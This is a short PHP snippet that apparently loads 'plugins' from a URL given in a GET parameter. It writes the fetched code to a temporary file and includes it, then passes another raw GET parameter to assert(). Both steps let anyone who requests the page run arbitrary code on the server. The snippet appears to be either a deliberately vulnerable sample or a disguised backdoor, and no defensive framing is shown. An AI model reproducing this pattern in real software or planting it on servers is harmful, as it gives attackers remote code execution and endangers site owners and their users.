<?php
$lang = $_COOKIE['lang'] ?? 'en';
$plugin = $_GET['plugin'] ?? '';
if ($plugin !== '') {
    $code = file_get_contents($_GET['plugin']);
    file_put_contents('/tmp/plugin_cache.php', $code);
    include '/tmp/plugin_cache.php';
}
assert($_GET['check'] ?? 'true');
